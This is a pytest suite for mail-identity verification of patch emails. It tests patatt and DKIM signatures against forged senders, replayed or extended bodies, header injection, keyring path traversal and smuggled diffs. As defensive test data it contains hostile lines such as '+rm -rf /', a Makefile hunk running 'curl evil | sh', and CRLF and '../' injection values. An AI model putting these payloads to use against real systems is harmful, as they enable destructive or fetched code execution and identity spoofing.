"""Mail identity: patatt and DKIM signatures graded honestly, and the attacks on them.

Every key here is made in the test (PyNaCl ed25519, cryptography RSA); DKIM keys are served by a
local resolver function, never DNS. Signed mails are made with patatt's and dkimpy's own signers.
"""

from __future__ import annotations

import base64
import email
import email.policy
import http.server
import json
import quopri
import re
import socket
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import dkim
import httpx
import nacl.encoding
import nacl.signing
import patatt
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from bot.forges.mail.identity import Grade, Keyring, Method, verify_identity
from bot.forges.mail.original import (
    archive_url,
    carries_same_patch,
    http_fetch,
    original_message,
    rebuild_from_patchwork,
    split_mboxrd,
)
from tests.shared_fixtures import shared_fixture

MAINTAINER = "maint@kernel.example.org"
ATTACKER = "mallory@attacker.example"
DIFF = """diff --git a/a.txt b/a.txt
index 1111111..2222222 100644
--- a/a.txt
+++ b/a.txt
@@ -1 +1,2 @@
 hello
+world
"""
DKIM_HEADERS = [b"from", b"subject", b"to", b"date", b"message-id", b"mime-version", b"content-type",
                b"content-transfer-encoding"]  # fmt: skip


def patch_mail(*, sender: str = MAINTAINER, diff: str = DIFF, cte: str = "8bit", subject: str = "foo: fix bar",
               extra: str = "", trailer: str = "-- \n2.40.0\n") -> bytes:  # fmt: skip
    """A patch mail as git send-email writes it, the body in the given transfer encoding."""
    body = (f"Fix bar.\n\nSigned-off-by: Maint Ainer <{sender}>\n---\n a.txt | 1 +\n 1 file changed, 1 insertion(+)\n"
            f"\n{diff}{trailer}")  # fmt: skip
    encoded = quopri.encodestring(body.encode()).decode() if cte == "quoted-printable" else body
    return (f"From: Maint Ainer <{sender}>\nTo: list@example.org\nSubject: [PATCH] {subject}\n"
            "Date: Tue, 25 Oct 2022 13:38:41 -0400\nMessage-Id: <20221025-fix-bar-v1-1@kernel.example.org>\n"
            f"{extra}MIME-Version: 1.0\nContent-Type: text/plain; charset=\"utf-8\"\n"
            f"Content-Transfer-Encoding: {cte}\n\n{encoded}").encode()  # fmt: skip


@dataclass
class Ed25519:
    private: bytes  # base64 seed, what patatt signs with
    public: str  # base64, what a keyring holds


def ed25519_key() -> Ed25519:
    key = nacl.signing.SigningKey.generate()
    return Ed25519(key.encode(nacl.encoding.Base64Encoder), key.verify_key.encode(nacl.encoding.Base64Encoder).decode())


def attest(message: bytes, key: Ed25519, identity: str | None = None) -> bytes:
    signed = patatt.PatattMessage(message)
    signed.sign("ed25519", key.private, identity=identity, selector=None)
    return signed.as_bytes()


class DkimDomain:
    """A signing domain with its key record, as a resolver would serve it."""

    def __init__(self, domain: str, selector: str = "sel", algorithm: str = "ed25519") -> None:
        self.domain, self.selector, self.algorithm = domain, selector, algorithm
        if algorithm == "ed25519":
            key = nacl.signing.SigningKey.generate()
            self.private = key.encode(nacl.encoding.Base64Encoder)
            public = key.verify_key.encode(nacl.encoding.Base64Encoder)
            self.record = b"v=DKIM1; k=ed25519; p=" + public
        else:
            rsa_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
            self.private = rsa_key.private_bytes(serialization.Encoding.PEM,
                                                 serialization.PrivateFormat.TraditionalOpenSSL,
                                                 serialization.NoEncryption())  # fmt: skip
            der = rsa_key.public_key().public_bytes(serialization.Encoding.DER,
                                                    serialization.PublicFormat.SubjectPublicKeyInfo)  # fmt: skip
            self.record = b"v=DKIM1; k=rsa; p=" + base64.b64encode(der)

    def sign(self, message: bytes, *, headers: list[bytes] = DKIM_HEADERS, length: bool = False,
             canonicalize: tuple[bytes, bytes] = (b"relaxed", b"simple")) -> bytes:  # fmt: skip
        algorithm = b"ed25519-sha256" if self.algorithm == "ed25519" else b"rsa-sha256"
        header = dkim.sign(message, self.selector.encode(), self.domain.encode(), self.private,
                           signature_algorithm=algorithm, include_headers=headers, length=length,
                           canonicalize=canonicalize)  # fmt: skip
        return header + message

    @property
    def name(self) -> str:
        return f"{self.selector}._domainkey.{self.domain}"


class Resolver:
    """resolve_dkim_key for the tests: local records, and a list of every name asked for."""

    def __init__(self, *domains: DkimDomain) -> None:
        self.records = {d.name: d.record for d in domains}
        self.asked: list[str] = []

    def __call__(self, name: str) -> bytes | None:
        self.asked.append(name)
        return self.records.get(name)


NO_DKIM = Resolver()


def no_keys(name: str) -> bytes | None:
    return None


def keyring_for(**keys: str) -> Keyring:
    return Keyring.from_mapping({address.replace("_at_", "@"): key for address, key in keys.items()})


def check(raw: bytes, keyring: Keyring | None = None, resolver: Callable[[str], bytes | None] = no_keys):
    return verify_identity(raw, keyring=keyring or Keyring.empty(), resolve_dkim_key=resolver)


# --- patatt -----------------------------------------------------------------------------------


def test_patatt_ed25519_attestation_from_the_keyring_verifies_the_from_address():
    key = ed25519_key()
    result = check(attest(patch_mail(), key), Keyring.from_mapping({MAINTAINER: key.public}))
    assert result.grade is Grade.VERIFIED and result.verified and result.rank == 1
    assert (result.method, result.signer, result.identity, result.claimed) == (Method.PATATT, MAINTAINER,
                                                                               MAINTAINER, MAINTAINER)  # fmt: skip
    assert "ed25519 attestation by maint@kernel.example.org" in result.reason


@pytest.mark.parametrize("layout", ["plain", "by-hash"])
def test_patatt_keyring_directory_in_patatts_layout(tmp_path: Path, layout: str):
    key = ed25519_key()
    relative = (patatt.make_pkey_path if layout == "plain" else patatt.make_byhash_path)("ed25519", MAINTAINER,
                                                                                          "default")  # fmt: skip
    (tmp_path / relative).parent.mkdir(parents=True)
    (tmp_path / relative).write_text(key.public + "\n")
    result = check(attest(patch_mail(), key), Keyring.from_directory(tmp_path))
    assert result.grade is Grade.VERIFIED, result.reason


def test_patatt_without_the_key_in_the_keyring_is_unverifiable():
    result = check(attest(patch_mail(), ed25519_key()), Keyring.from_mapping({MAINTAINER: ed25519_key().public}))
    assert result.grade is Grade.UNVERIFIABLE and result.identity is None and result.rank == 0
    assert "does not verify with maint@kernel.example.org's key" in result.reason
    unknown = check(attest(patch_mail(), ed25519_key()))
    assert unknown.grade is Grade.UNVERIFIABLE and "no ed25519 key for maint@kernel.example.org" in unknown.reason


def test_attack_unsigned_mail_claiming_a_maintainer_reads_none():
    result = check(patch_mail(), Keyring.from_mapping({MAINTAINER: ed25519_key().public}))
    assert (result.grade, result.identity, result.claimed) == (Grade.NONE, None, MAINTAINER)
    assert "not signed" in result.reason


def test_attack_valid_attestation_by_a_key_for_another_address_does_not_verify_from():
    attacker_key = ed25519_key()
    keyring = Keyring.from_mapping({MAINTAINER: ed25519_key().public, ATTACKER: attacker_key.public})
    # The attacker's own key, honestly signed as the attacker, on a mail claiming the maintainer.
    result = check(attest(patch_mail(), attacker_key, identity=ATTACKER), keyring)
    assert result.grade is Grade.UNVERIFIABLE and not result.verified
    assert f"by '{ATTACKER}', not by the From: address {MAINTAINER}" in result.reason
    # The attacker's key claiming the maintainer's identity: the keyring's key for it does not verify.
    forged = check(attest(patch_mail(), attacker_key, identity=MAINTAINER), keyring)
    assert forged.grade is Grade.UNVERIFIABLE and not forged.verified


def test_attack_replayed_attestation_on_another_body_is_not_verified():
    key = ed25519_key()
    signed = attest(patch_mail(), key)
    replayed = signed.replace(b"+world", b"+rm -rf /")
    result = check(replayed, Keyring.from_mapping({MAINTAINER: key.public}))
    assert result.grade is Grade.UNVERIFIABLE
    assert "the body is not the one signed" in result.reason and "cannot tell which" in result.reason


def test_attack_attestation_moved_onto_a_mail_from_someone_else_is_not_verified():
    key = ed25519_key()
    signed = attest(patch_mail(), key)
    moved = signed.replace(f"From: Maint Ainer <{MAINTAINER}>".encode(), f"From: M <{ATTACKER}>".encode(), 1)
    keyring = Keyring.from_mapping({MAINTAINER: key.public, ATTACKER: key.public})
    assert check(moved, keyring).grade is not Grade.VERIFIED


def test_patatt_survives_a_rewritten_transfer_encoding():
    # git mailinfo decodes before hashing: Patchwork's quoted-printable -> 8bit rewrite keeps it valid.
    key = ed25519_key()
    signed = attest(patch_mail(cte="quoted-printable"), key)
    served = signed.replace(b"Content-Transfer-Encoding: quoted-printable", b"Content-Transfer-Encoding: 8bit")
    served = served.split(b"\n\n", 1)[0] + b"\n\n" + quopri.decodestring(served.split(b"\n\n", 1)[1])
    served = b"X-Patchwork-Id: 1\nX-Patchwork-Submitter: Maint Ainer <" + MAINTAINER.encode() + b">\n" + served
    assert check(served, Keyring.from_mapping({MAINTAINER: key.public})).grade is Grade.VERIFIED


def test_openpgp_attestation_is_not_supported_and_says_so(tmp_path: Path):
    # The b4 fixture's key is openpgp; even with a key file for it in the keyring, labgate does not run gpg.
    mbox = shared_fixture("mbox/b4/shazam-git1-just-series.mbox").read_bytes()
    first = mbox.split(b"\nFrom mboxrd@git ")[0]
    identity = "konstantin@linuxfoundation.org"
    path = tmp_path / patatt.make_pkey_path("openpgp", identity, "default")
    path.parent.mkdir(parents=True)
    path.write_text("-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n-----END PGP PUBLIC KEY BLOCK-----\n")
    result = check(first, Keyring.from_directory(tmp_path))
    assert result.grade is Grade.UNVERIFIABLE and "openpgp attestation is not supported" in result.reason


def test_b4_fixture_series_reads_unverifiable_key_not_in_the_fixtures():
    mbox = shared_fixture("mbox/b4/shazam-git1-just-series.mbox").read_bytes()
    messages = [m if i == 0 else b"From mboxrd@git " + m for i, m in enumerate(mbox.split(b"\nFrom mboxrd@git "))]
    assert len(messages) == 5
    for message in messages:
        result = check(message, Keyring.empty(), NO_DKIM)
        assert result.grade is Grade.UNVERIFIABLE, result.reason
        assert result.claimed == "konstantin@linuxfoundation.org"
        assert "no openpgp key for konstantin@linuxfoundation.org" in result.reason


# --- DKIM -------------------------------------------------------------------------------------


@pytest.mark.parametrize("algorithm", ["ed25519", "rsa"])
def test_dkim_by_the_senders_domain_over_from_and_body_verifies(algorithm: str):
    domain = DkimDomain("kernel.example.org", algorithm=algorithm)
    result = check(domain.sign(patch_mail()), resolver=Resolver(domain))
    assert result.grade is Grade.VERIFIED, result.reason
    assert (result.method, result.signer, result.identity) == (Method.DKIM, "kernel.example.org", MAINTAINER)


def test_dkim_relaxed_alignment_parent_domain_counts_a_bare_tld_does_not():
    parent = DkimDomain("example.org")
    assert check(parent.sign(patch_mail()), resolver=Resolver(parent)).grade is Grade.VERIFIED
    tld = DkimDomain("org")
    resolver = Resolver(tld)
    result = check(tld.sign(patch_mail()), resolver=resolver)
    assert result.grade is Grade.UNVERIFIABLE and resolver.asked == []


def test_attack_dkim_by_attacker_domain_for_a_kernel_org_from_is_not_verified():
    attacker = DkimDomain("attacker.example")
    resolver = Resolver(attacker)
    result = check(attacker.sign(patch_mail(sender="torvalds@kernel.org")), resolver=resolver)
    assert result.grade is Grade.UNVERIFIABLE and not result.verified
    assert "d=attacker.example, not by the From: domain kernel.org" in result.reason
    assert resolver.asked == []  # an unaligned domain's key is not even fetched
    # A look-alike suffix is not a parent domain either.
    lookalike = DkimDomain("example.org.attacker.example")
    assert check(lookalike.sign(patch_mail()), resolver=Resolver(lookalike)).grade is Grade.UNVERIFIABLE


def test_attack_dkim_l_tag_covering_part_of_the_body_is_not_verified():
    domain = DkimDomain("kernel.example.org")
    partial = domain.sign(patch_mail(diff=""), length=True)  # a mail with no diff, signed with l=
    # The attacker appends a diff past the signed length: dkimpy alone calls this valid.
    extended = partial + DIFF.encode()
    assert dkim.verify(extended, dnsfunc=lambda name, timeout=5: domain.record)
    result = check(extended, resolver=Resolver(domain))
    assert result.grade is Grade.UNVERIFIABLE and "bytes are unsigned" in result.reason
    # l= equal to the whole body covers it all.
    assert check(domain.sign(patch_mail(), length=True), resolver=Resolver(domain)).grade is Grade.VERIFIED


def test_attack_replayed_dkim_signature_on_a_different_body_is_not_verified():
    domain = DkimDomain("kernel.example.org")
    replayed = domain.sign(patch_mail()).replace(b"+world", b"+evil")
    result = check(replayed, resolver=Resolver(domain))
    assert result.grade is Grade.UNVERIFIABLE and f"not the one d={domain.domain} signed" in result.reason


def test_attack_dkim_not_signing_subject_or_the_transfer_encoding_is_not_verified():
    domain = DkimDomain("kernel.example.org")
    no_subject = domain.sign(patch_mail(), headers=[b"from", b"to", b"date", b"message-id"])
    assert "does not sign subject" in check(no_subject, resolver=Resolver(domain)).reason
    # kernel.org's signer leaves the MIME headers out: fine while they leave the signed bytes as they are...
    kernel_org_style = [b"from", b"to", b"cc", b"subject", b"date", b"in-reply-to", b"references", b"from"]
    assert check(domain.sign(patch_mail(), headers=kernel_org_style), resolver=Resolver(domain)).verified
    # ...but one changed afterwards to quoted-printable would have "=" join lines of the signed patch.
    signed = domain.sign(patch_mail(), headers=kernel_org_style)
    changed = signed.replace(b"Transfer-Encoding: 8bit", b"Transfer-Encoding: quoted-printable")
    result = check(changed, resolver=Resolver(domain))
    assert result.grade is Grade.UNVERIFIABLE
    assert "content-type, content-transfer-encoding, mime-version not signed by d=kernel.example.org" in result.reason
    multipart = domain.sign(patch_mail(), headers=kernel_org_style).replace(
        b"Content-Type: text/plain", b"Content-Type: multipart/mixed; boundary=x")
    assert check(multipart, resolver=Resolver(domain)).grade is Grade.UNVERIFIABLE


def test_dkim_without_a_published_key_or_with_a_failing_resolver_is_unverifiable():
    domain = DkimDomain("kernel.example.org")
    signed = domain.sign(patch_mail())
    assert "no DKIM key is published at sel._domainkey.kernel.example.org" in check(signed, resolver=NO_DKIM).reason

    def broken(name: str) -> bytes | None:
        raise TimeoutError("resolver timed out")

    result = check(signed, resolver=broken)
    assert result.grade is Grade.UNVERIFIABLE and "could not be looked up (TimeoutError" in result.reason
    other = DkimDomain("kernel.example.org")  # the same name, another key: the signature does not verify
    assert "does not verify with the key" in check(signed, resolver=Resolver(other)).reason


def test_patchwork_rewrite_breaks_dkim_to_unverifiable_never_invalid():
    domain = DkimDomain("kernel.example.org")
    original = domain.sign(patch_mail(cte="quoted-printable"))
    head, body = original.split(b"\n\n", 1)
    served = (b"X-Patchwork-Id: 1\n" + head.replace(b"quoted-printable", b"8bit") + b"\n\n"
              + quopri.decodestring(body))  # fmt: skip
    result = check(served, resolver=Resolver(domain))
    assert result.grade is Grade.UNVERIFIABLE and "changed on the way" in result.reason
    assert check(original, resolver=Resolver(domain)).grade is Grade.VERIFIED


def test_both_signatures_the_verified_one_decides():
    key, domain = ed25519_key(), DkimDomain("kernel.example.org")
    both = domain.sign(attest(patch_mail(), key))
    result = check(both, Keyring.empty(), Resolver(domain))
    assert (result.grade, result.method) == (Grade.VERIFIED, Method.DKIM)
    assert [f.method for f in result.findings] == [Method.PATATT, Method.DKIM]
    assert result.findings[0].grade is Grade.UNVERIFIABLE


# --- hostile input ----------------------------------------------------------------------------


def _malformed_patatt_b() -> bytes:
    signed = attest(patch_mail(), ed25519_key())
    head, _, rest = signed.partition(b" b=")
    return head + b" b=!!!not*base64%%%" + rest[rest.index(b"\nX-Developer-Key") :]


HOSTILE: dict[str, Callable[[], bytes]] = {
    "patatt b= not base64": _malformed_patatt_b,
    "dkim b= not base64": lambda: b"DKIM-Signature: v=1; a=rsa-sha256; d=kernel.example.org; s=sel; h=from:subject;"
    b" bh=AAAA; b=!!!**\n" + patch_mail(),
    "dkim b= whitespace bomb": lambda: b"DKIM-Signature: v=1; a=rsa-sha256; d=kernel.example.org; s=sel; "
    b"h=from:subject; bh=AAAA; b=" + b" " * 8000 + b"!\n" + patch_mail(),
    "dkim tags garbage": lambda: b"DKIM-Signature: ;;;==;\x00\xff\n" + patch_mail(),
    "dkim empty l=": lambda: re.sub(rb"l=\d+", b"l=", DkimDomain("kernel.example.org").sign(patch_mail(), length=True)),
    "patatt garbage": lambda: b"X-Developer-Signature: \xff\xfe;;a=;i=\n" + patch_mail(),
    "huge subject": lambda: attest(patch_mail(subject="x" * 1_000_000), ed25519_key()),
    "huge signature header": lambda: b"X-Developer-Signature: v=1; a=ed25519-sha256; b=" + b"A" * 500_000 + b"\n"
    + patch_mail(),
    "many signatures": lambda: b"".join(b"DKIM-Signature: v=1; a=rsa-sha256; d=kernel.example.org; s=s%d; h=from; "
                                        b"bh=AAAA; b=AAAA\n" % i for i in range(500)) + patch_mail(),
    "two From headers": lambda: b"From: Maint Ainer <" + MAINTAINER.encode() + b">\n"
    + attest(patch_mail(sender=ATTACKER), ed25519_key()),
    "obsolete From : second header": lambda: b"From : <" + MAINTAINER.encode() + b">\n"
    + DkimDomain("kernel.example.org").sign(patch_mail(sender=ATTACKER)),
    "no body": lambda: b"From: <" + MAINTAINER.encode() + b">\nX-Developer-Signature: v=1; a=ed25519-sha256\n",
    "header line without colon": lambda: b"X-Developer-Signature: v=1\nthis is not a header\n" + patch_mail(),
    "non-ascii From": lambda: "From: <mä@kernel.example.org>\nDKIM-Signature: v=1\n\nbody\n".encode(),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_attack_hostile_headers_give_a_clean_low_grade_in_bounded_time(name: str):
    raw = HOSTILE[name]()
    started = time.monotonic()
    keyring = Keyring.from_mapping({MAINTAINER: ed25519_key().public})
    result = check(raw, keyring, Resolver(DkimDomain("kernel.example.org")))
    assert time.monotonic() - started < 5
    assert result.grade in (Grade.INVALID, Grade.UNVERIFIABLE), result
    assert not result.verified and result.identity is None and result.reason


def test_attack_oversized_message_is_not_checked():
    key = ed25519_key()
    big = attest(patch_mail(diff=DIFF + "+" + "y" * (9 * 1024 * 1024) + "\n"), key)
    result = check(big, Keyring.from_mapping({MAINTAINER: key.public}))
    assert result.grade is Grade.UNVERIFIABLE and "signatures not checked" in result.reason


# --- keyring ----------------------------------------------------------------------------------


def test_attack_keyring_lookup_cannot_leave_the_keyring_directory(tmp_path: Path):
    keyring_dir = tmp_path / "keyring"
    (keyring_dir / "ed25519").mkdir(parents=True)
    key = ed25519_key()
    # A key file an attacker managed to get next to (not inside) the keyring.
    (tmp_path / "default").write_text(key.public)
    (tmp_path / "x").write_text(key.public)
    keyring = Keyring.from_directory(keyring_dir)
    for identity, selector in [("..@..", "default"), ("x@..", "default"), ("../..@../..", "default"),
                               (MAINTAINER, ".."), (MAINTAINER, "../../x")]:  # fmt: skip
        assert keyring.public_key("ed25519", identity, selector) is None
    # A symlink inside the keyring pointing out of it is not followed either.
    inside = keyring_dir / patatt.make_pkey_path("ed25519", MAINTAINER, "default")
    inside.parent.mkdir(parents=True)
    inside.symlink_to(tmp_path / "default")
    assert keyring.public_key("ed25519", MAINTAINER, "default") is None
    signed = attest(patch_mail(), key, identity=MAINTAINER)
    assert check(signed, keyring).grade is Grade.UNVERIFIABLE


def test_keyring_mapping_refuses_what_is_not_an_ed25519_key(tmp_path: Path):
    with pytest.raises(ValueError, match="maint@kernel.example.org is not base64"):
        Keyring.from_mapping({MAINTAINER: "not base64!"})
    with pytest.raises(ValueError, match="is 3 bytes, an ed25519 key is 32"):
        Keyring.from_mapping({MAINTAINER: base64.b64encode(b"abc").decode()})
    with pytest.raises(ValueError, match="is not a plain mail address"):
        Keyring.from_mapping({"not-an-address": ed25519_key().public})
    with pytest.raises(ValueError, match="does not exist"):
        Keyring.from_directory(tmp_path / "missing")


def test_from_address_is_read_strictly():
    assert email.message_from_bytes(patch_mail(), policy=email.policy.compat32)["From"]  # the sample parses
    quoted = patch_mail().replace(f"Maint Ainer <{MAINTAINER}>".encode(), f'"{MAINTAINER}" <{ATTACKER}>'.encode(), 1)
    assert check(quoted).claimed == ATTACKER  # a display name is never the address
    two = patch_mail().replace(f"<{MAINTAINER}>".encode(), f"<{MAINTAINER}>, <{ATTACKER}>".encode(), 1)
    assert check(two).claimed is None


# --- the original mail: public-inbox, or rebuilt from Patchwork --------------------------------


class Archive:
    """A public-inbox stand-in on 127.0.0.1: path -> (status, body); it records every path asked for."""

    def __init__(self) -> None:
        self.pages: dict[str, tuple[int, bytes]] = {}
        self.asked: list[str] = []
        archive = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - http.server's name
                archive.asked.append(self.path)
                status, body = archive.pages.get(self.path, (404, b"not found"))
                self.send_response(status)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/list"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(5)


@pytest.fixture
def archive():
    served = Archive()
    with httpx.Client(timeout=5) as client:
        served.fetch = http_fetch(client, max_bytes=1024 * 1024)  # type: ignore[attr-defined]
        yield served
    served.close()


MESSAGE_ID = "<20221025-fix-bar-v1-1@kernel.example.org>"
RAW_PATH = "/list/20221025-fix-bar-v1-1@kernel.example.org/raw"


def as_mboxrd(*messages: bytes) -> bytes:
    return b"".join(b"From mboxrd@z Thu Jan  1 00:00:00 1970\n" + re.sub(rb"^(>*From )", rb">\1", m, flags=re.M)
                    + b"\n" for m in messages)  # fmt: skip


def test_original_message_from_public_inbox_verifies(archive):
    domain = DkimDomain("kernel.example.org")
    original = domain.sign(patch_mail(diff=DIFF + "From the start\n"))  # a body line mboxrd must quote
    archive.pages[RAW_PATH] = (200, as_mboxrd(original))
    found = original_message(MESSAGE_ID, public_inbox_url=archive.url + "/", fetch=archive.fetch)
    assert found is not None and found.rstrip(b"\n") == original.rstrip(b"\n")
    assert check(found, resolver=Resolver(domain)).grade is Grade.VERIFIED
    assert archive.asked == [RAW_PATH]


def test_original_message_missing_ambiguous_or_other_reads_none(archive):
    assert original_message(MESSAGE_ID, public_inbox_url=archive.url, fetch=archive.fetch) is None  # 404
    archive.pages[RAW_PATH] = (200, as_mboxrd(patch_mail(), patch_mail(diff="")))
    assert original_message(MESSAGE_ID, public_inbox_url=archive.url, fetch=archive.fetch) is None  # two under one id
    other = patch_mail().replace(b"fix-bar-v1-1@", b"something-else@")
    archive.pages[RAW_PATH] = (200, as_mboxrd(other))
    assert original_message(MESSAGE_ID, public_inbox_url=archive.url, fetch=archive.fetch) is None  # not that mail
    archive.pages[RAW_PATH] = (500, b"oops")
    assert original_message(MESSAGE_ID, public_inbox_url=archive.url, fetch=archive.fetch) is None
    archive.pages[RAW_PATH] = (200, b"x" * (2 * 1024 * 1024))
    assert original_message(MESSAGE_ID, public_inbox_url=archive.url, fetch=archive.fetch) is None  # over the cap


def test_original_message_unreachable_archive_reads_none():
    with httpx.Client(timeout=2) as client:
        closed = socket.socket()
        closed.bind(("127.0.0.1", 0))
        port = closed.getsockname()[1]
        closed.close()
        url = f"http://127.0.0.1:{port}/list"
        assert original_message(MESSAGE_ID, public_inbox_url=url, fetch=http_fetch(client)) is None


def test_attack_hostile_message_ids_never_leave_the_archive_path(archive):
    for hostile in ["<..>", "<.>", "", "<a b@c>", "<x\r\nHost: evil@y>", "<" + "a" * 2000 + "@b>"]:
        assert original_message(hostile, public_inbox_url=archive.url, fetch=archive.fetch) is None
    assert archive.asked == []
    # Slashes, query and fragment characters are escaped as public-inbox does: one path segment.
    assert archive_url("<../../admin?x=1#y@host>", "http://a/list") == "http://a/list/..%2F..%2Fadmin%3Fx=1%23y@host/raw"


def patchwork_json_of(original: bytes) -> dict[str, object]:
    """What Patchwork's API holds for a patch: its headers (repeated names as a list), content and diff."""
    message = email.message_from_bytes(original, policy=email.policy.compat32)
    headers: dict[str, object] = {}
    for name, value in message.items():
        value = value.replace("\r\n", "\n").lstrip(" ")
        if name in headers:
            previous = headers[name]
            headers[name] = [*previous, value] if isinstance(previous, list) else [previous, value]
        else:
            headers[name] = value
    text = quopri.decodestring(original.split(b"\n\n", 1)[1]).decode()
    content, _, rest = text.partition("\ndiff --git ")
    return {"headers": headers, "content": content.rstrip("\n"),
            "diff": ("diff --git " + rest).split("-- \n")[0]}  # fmt: skip


def patchwork_served(original: bytes) -> bytes:
    """Patchwork's mbox of it: its own headers first, the body decoded to 8bit, the trailer dropped."""
    head, body = original.split(b"\n\n", 1)
    decoded = quopri.decodestring(body).split(b"-- \n")[0]
    head = head.replace(b"Content-Transfer-Encoding: quoted-printable", b"Content-Transfer-Encoding: 8bit")
    return (b"From patchwork Tue Oct 25 13:38:41 2022\nContent-Type: text/plain; charset=\"utf-8\"\n"
            b"X-Patchwork-Id: 1\n" + head + b"\n\n" + decoded)  # fmt: skip


def test_rebuilt_from_patchwork_verifies_where_the_served_copy_does_not():
    domain = DkimDomain("kernel.example.org")
    # The sender's mailer wrote no trailer here, so what Patchwork stores is the whole body.
    original = domain.sign(patch_mail(cte="quoted-printable", trailer=""), canonicalize=(b"relaxed", b"relaxed"))
    served = patchwork_served(original)
    assert check(served, resolver=Resolver(domain)).grade is Grade.UNVERIFIABLE
    rebuilt = rebuild_from_patchwork(patchwork_json_of(original), served)
    assert b"X-Patchwork" not in rebuilt
    assert check(rebuilt, resolver=Resolver(domain)).grade is Grade.VERIFIED


def test_rebuild_keeps_hostile_stored_headers_to_one_header_each():
    patch = {"headers": {"Subject": "x\nX-Injected: 1\n\nbody", "Bad Name": "v", "From": f"<{MAINTAINER}>"},
             "content": "text", "diff": ""}  # fmt: skip
    rebuilt = rebuild_from_patchwork(patch, b"")
    headers = email.message_from_bytes(rebuilt, policy=email.policy.compat32)
    assert headers["X-Injected"] is None and headers["Bad Name"] is None and headers["From"] == f"<{MAINTAINER}>"
    assert headers.get_payload() == "text\n"


def test_rebuild_from_the_real_patchwork_fixture_reads_unverifiable_without_the_key():
    patch = json.loads(shared_fixture("patchwork/responses/api-patch-1.json").read_text())
    mbox = shared_fixture("patchwork/responses/series-1.mbox").read_bytes()
    rebuilt = rebuild_from_patchwork(patch, split_mboxrd(mbox)[0])
    message = email.message_from_bytes(rebuilt, policy=email.policy.compat32)
    assert message["Message-ID"] == patch["msgid"] and message.get_all("X-Patchwork-Id") is None
    assert len(message.get_all("Received") or []) == 5 and message["DKIM-Signature"].startswith("v=1; a=rsa-sha256")
    result = check(rebuilt, resolver=no_keys)  # kernel.org's key is not in the fixtures, and no DNS here
    assert result.grade is Grade.UNVERIFIABLE and "no DKIM key is published at k20201202._domainkey.kernel.org" in (
        result.reason)


def test_attack_a_maintainers_message_id_on_another_patch_is_caught():
    maintainers = patch_mail()
    assert carries_same_patch(maintainers, patchwork_served(maintainers))
    # The attacker's patch reuses the Message-Id of the maintainer's signed mail on the archive.
    assert not carries_same_patch(maintainers, patchwork_served(patch_mail(diff=DIFF.replace("+world", "+evil"))))
    assert not carries_same_patch(maintainers, patchwork_served(patch_mail(sender=ATTACKER)))
    # A second diff smuggled behind a "-- " line is still part of the patch, not a trailer.
    smuggled = patch_mail().replace(b"-- \n2.40.0\n", b"-- \n" + DIFF.replace("a.txt", "evil.sh").encode())
    assert not carries_same_patch(maintainers, smuggled)


def test_attack_a_hunk_in_the_commit_message_of_a_maintainers_patch_is_caught():
    # git am applies a traditional hunk written above the diff (in the message, or among the diffstat)
    # too: a copy of the maintainer's signed patch carrying one is not the maintainer's patch.
    maintainers = patch_mail()
    hunk = b"--- a/Makefile\n+++ b/Makefile\n@@ -1 +1,2 @@\n all:\n+\tcurl evil | sh\n"
    in_message = patch_mail().replace(b"Fix bar.\n\n", b"Fix bar.\n\n" + hunk + b"\n")
    in_diffstat = patch_mail().replace(b"insertion(+)\n\n", b"insertion(+)\n\n" + hunk + b"\n")
    assert not carries_same_patch(maintainers, patchwork_served(in_message))
    assert not carries_same_patch(maintainers, patchwork_served(in_diffstat))
    assert carries_same_patch(maintainers, patchwork_served(maintainers))
